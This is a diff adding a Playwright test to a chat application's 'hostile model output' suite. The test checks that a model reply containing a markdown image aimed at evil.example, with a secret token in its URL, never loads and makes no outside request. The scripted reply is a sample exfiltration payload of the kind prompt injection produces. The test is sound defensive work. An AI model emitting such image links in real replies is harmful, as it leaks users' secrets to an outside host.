@@ -77,6 +77,33 @@ test.describe('hostile model output', () => {
     expect(await pwned(page)).toBeUndefined();
   });
 
+  test('a remote image in a reply never loads by itself (no exfiltration through its URL)', async ({
+    page,
+    fake,
+  }) => {
+    const remote: string[] = [];
+    page.on('request', (request) => {
+      if (request.url().includes('evil.example')) remote.push(request.url());
+    });
+    await signUp(page);
+    await fake.script({
+      replies: [{ text: 'Here: ![chart](https://evil.example/pixel.png?d=SECRET-TOKEN) done' }],
+    });
+    await send(page, 'Summarise the document');
+    const reply = messages(page).nth(1);
+    await expect(reply).toContainText('done');
+    const link = reply.getByRole('link', { name: /Image: chart/ });
+    await expect(link).toHaveAttribute('href', 'https://evil.example/pixel.png?d=SECRET-TOKEN');
+    await expect(reply.locator('img')).toHaveCount(0);
+    await page.reload();
+    await expect(
+      messages(page)
+        .nth(1)
+        .getByRole('link', { name: /Image: chart/ }),
+    ).toBeVisible();
+    expect(remote).toEqual([]);
+  });
+
   test('a user message with the same payload is inert too', async ({ page, fake }) => {
     await signUp(page);
     await fake.script({ replies: [{ text: 'ok' }] });
